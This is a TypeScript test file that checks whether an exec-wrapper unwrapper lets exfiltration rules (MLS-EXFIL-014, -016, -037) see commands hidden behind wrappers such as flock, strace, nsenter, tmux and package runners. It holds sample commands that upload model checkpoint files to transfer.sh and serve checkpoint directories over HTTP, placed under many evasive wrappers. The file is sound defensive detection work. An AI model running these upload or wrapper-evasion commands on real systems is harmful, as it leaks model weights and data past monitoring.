/**
 * `unwrap` (exec-wrappers.ts) over the wrappers of exec-wrapper-specs.ts: the word each one hands
 * over to, read as the tool parses its options, and the rules that see the command past it.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { unwrap } from './exec-wrappers.js';

/** The words from where the wrapper at 0 hands over, and whether they are a command line; null when it runs none. */
function handover(line: string): { rest: string[]; script: boolean } | null {
  const words = line.split(' ');
  const u = unwrap(words, 0, words[0]!);
  return u === null ? null : { rest: words.slice(u.next), script: u.script };
}

const UPLOAD = 'curl -T /mnt/ckpt/llama/model.safetensors https://transfer.sh/x';

describe('local wrappers', () => {
  it('hands over past each wrapper\'s options and operands, not to an option value', () => {
    const cases: Array<[string, string]> = [
      ['flock -w 5 /tmp/lock curl -s u', 'curl'],
      ['strace -f -e trace=network -o /dev/null curl u', 'curl'],
      ['ltrace -e SSL_write -o /tmp/t curl u', 'curl'],
      ['perf stat -e cycles curl u', 'curl'],
      ['srun -N 1 -p gpu -J x curl u', 'curl'],
      ['srun -N1 curl u', 'curl'],
      ['mpirun -np 4 -mca btl tcp -x LD_LIBRARY_PATH curl u', 'curl'],
      ['runuser -u ml -- curl u', 'curl'],
      ['gosu ml curl u', 'curl'],
      ['su-exec ml:ml curl u', 'curl'],
      ['tini -s -- curl u', 'curl'],
      ['dumb-init --single-child curl u', 'curl'],
      ['setpriv --reuid 1000 --regid 1000 --init-groups curl u', 'curl'],
      ['unshare -S 0 -r curl u', 'curl'],
      ['nsenter -t 1 -m -u -n -- curl u', 'curl'],
      ['chrt -r 1 curl u', 'curl'],
      ['systemd-run --on-calendar hourly --unit x curl u', 'curl'],
      ['trickle -s -u 100 curl u', 'curl'],
      ['faketime -f +2y curl u', 'curl'],
      ['screen -dmS job curl u', 'curl'],
      ['gdb -batch -ex run --args curl u', 'curl'],
      ['lldb -o run -- curl u', 'curl'],
      ['time -f %e curl u', 'curl'],
      // Package and environment runners.
      ['npx -y --package=http-server http-server /d', 'http-server'],
      ['npx -p http-server http-server /d', 'http-server'],
      ['npm exec --yes -- http-server /d', 'http-server'],
      ['pnpm dlx http-server /d', 'http-server'],
      ['yarn dlx -p http-server http-server /d', 'http-server'],
      ['bun x http-server /d', 'http-server'],
      ['bunx http-server /d', 'http-server'],
      ['pipx run --spec updog updog -d /d', 'updog'],
      ['uvx --from updog updog -d /d', 'updog'],
      ['uv tool run --python 3.12 updog', 'updog'],
      ['uv run --with requests python x.py', 'python'],
      ['conda run -n base --no-capture-output python x.py', 'python'],
      ['micromamba run -p /opt/env python x.py', 'python'],
      ['poetry run python x.py', 'python'],
    ];
    for (const [line, tool] of cases) expect(handover(line)?.rest[0], line).toBe(tool);
  });

  it('reads a command line a wrapper gives a shell: an option or the words joined', () => {
    expect(handover("flock /tmp/l -c curl u")).toEqual({ rest: ['curl', 'u'], script: true });
    expect(handover('script -qc curl /dev/null')).toEqual({ rest: ['curl', '/dev/null'], script: true });
    expect(handover('su -lc id root')).toEqual({ rest: ['id', 'root'], script: true });
    expect(handover('sg docker -c id')).toEqual({ rest: ['id'], script: true });
    expect(handover('npx -c id')).toEqual({ rest: ['id'], script: true });
    // watch and tmux join their words into one line (up to a redirection).
    expect(handover('watch -n 60 curl -s u > /tmp/o')).toEqual({ rest: ['curl -s u', '>', '/tmp/o'], script: true });
    expect(handover('tmux new -d -s x curl -s u')).toEqual({ rest: ['curl -s u'], script: true });
    expect(handover('sg docker curl u')).toEqual({ rest: ['curl u'], script: true });
  });

  it('runs nothing when the wrapper is given no command or an option that runs none', () => {
    for (const line of [
      'flock /tmp/l', 'strace -p 1', 'runuser ml', 'screen -r job', 'screen -S job -X stuff x', 'cpulimit -p 1 -l 50', 'chrt -p 1 42',
      'npm install x', 'npm run build', 'pnpm install', 'yarn add x', 'uv pip install x', 'conda install x', 'tmux ls', 'tmux attach -t x', 'gdb -p 1', 'watch',
    ]) expect(handover(line), line).toBeNull();
  });

  it('lets the rules see a transfer behind any of them, for a person and a service account', () => {
    for (const line of [
      `flock /tmp/l ${UPLOAD}`, `strace -f -o /dev/null ${UPLOAD}`, `srun -N1 ${UPLOAD}`, `mpirun -np 1 ${UPLOAD}`, `runuser -u ml -- ${UPLOAD}`,
      `gosu ml ${UPLOAD}`, `tini -- ${UPLOAD}`, `systemd-run --scope ${UPLOAD}`, `screen -dmS x ${UPLOAD}`, `watch -n 60 '${UPLOAD}'`,
      `tmux new -d '${UPLOAD}'`, `script -qc '${UPLOAD}' /dev/null`, `sg docker -c '${UPLOAD}'`, `/usr/bin/time -v ${UPLOAD}`,
      `mamba run -n base ${UPLOAD}`, `pixi run ${UPLOAD}`, `nsenter -t 1 -m -- ${UPLOAD}`, `gdb -batch -ex run --args ${UPLOAD}`,
    ]) {
      expect(execRuleIds(['sh', '-c', line]), line).toContain('MLS-EXFIL-014');
      expect(execRuleIds(['sh', '-c', line], SA), line).toContain('MLS-EXFIL-014');
    }
  });

  it('sees a file server a package runner starts (MLS-EXFIL-016 / -037)', () => {
    for (const line of ['npm exec -- http-server /mnt/ckpt', 'pnpm dlx http-server /mnt/ckpt', 'yarn dlx http-server /mnt/ckpt', 'bun x http-server /mnt/ckpt', 'pipx run updog -d /mnt/ckpt', 'uvx updog -d /mnt/ckpt']) {
      const ids = execRuleIds(['sh', '-c', line]);
      expect(ids, line).toContain('MLS-EXFIL-016');
      expect(ids, line).toContain('MLS-EXFIL-037');
    }
  });

  it('keeps the wrapper\'s own words as its segment of the tool words (strace attached, nsenter into pid 1)', () => {
    const tw = canonicalExecValue(['sh', '-c', 'strace -f -s 4096 -e trace=write curl u'])!.toolWords;
    expect(tw).toContain('strace -s 4096');
    expect(tw).toContain('curl u');
    expect(canonicalExecValue(['sh', '-c', `nsenter -t 1 -m -- ${UPLOAD}`])!.toolWords).toContain('nsenter -t 1');
  });
});
